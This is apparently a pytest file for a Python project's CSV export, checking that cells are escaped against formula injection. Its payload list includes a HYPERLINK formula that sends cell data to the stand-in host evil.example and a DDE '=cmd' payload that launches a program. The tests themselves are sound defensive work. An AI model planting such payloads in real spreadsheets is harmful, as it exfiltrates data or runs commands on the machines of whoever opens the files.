"""The one place every CSV cell is written (OWASP CSV injection): formulas never run."""

from __future__ import annotations

import csv
import io

import pytest

from chalicelib.security.spreadsheet import CsvWriter, cell

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Clic\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "  =1+1", "=1;=2", "-"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_prefixed_with_a_quote_and_quoted(payload: str) -> None:
    written = cell(payload)
    assert written == '"\'' + payload.replace('"', '""') + '"'
    (row,) = csv.reader(io.StringIO(written, newline=""), delimiter=";")
    assert row == ["'" + payload]  # read back as text starting with the quote


@pytest.mark.parametrize(("value", "written"), [
    ("María José Peña", "María José Peña"),
    ("Peña; hija", '"Peña; hija"'),
    ("Peña, hija", '"Peña, hija"'),  # the file may be opened with "," as the delimiter
    ('Dice "hola"', '"Dice ""hola"""'),
    ("línea\r\notra", '"línea\r\notra"'),
    ("a\tb", '"a\tb"'),
    ("2026-11-24T10:03:12-05:00", "2026-11-24T10:03:12-05:00"),
    ("'ya con comilla", "'ya con comilla"),
    ("", ""),
    (None, ""),
    (150000, "150000"),
    (-5, "-5"),  # a number is a number, not text
])
def test_other_cells(value: object, written: str) -> None:
    assert cell(value) == written  # type: ignore[arg-type]


def test_the_writer_keeps_each_payload_in_its_own_cell() -> None:
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["id", "valor"])
    writer.writerows([[f"x{i}", payload] for i, payload in enumerate(PAYLOADS)])
    text = out.getvalue()
    assert text.endswith("\r\n") and text.count("\r\n") >= len(PAYLOADS) + 1
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert all(len(row) == 2 for row in rows)
    for row in rows:
        assert all(value[:1] not in "=+-@\t\r\n\0" or value == "" for value in row), row
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_another_delimiter_is_quoted_too() -> None:
    out = io.StringIO()
    CsvWriter(out, delimiter="|", line_end="\n").writerow(["a|b", "c"])
    assert out.getvalue() == '"a|b"|c\n'
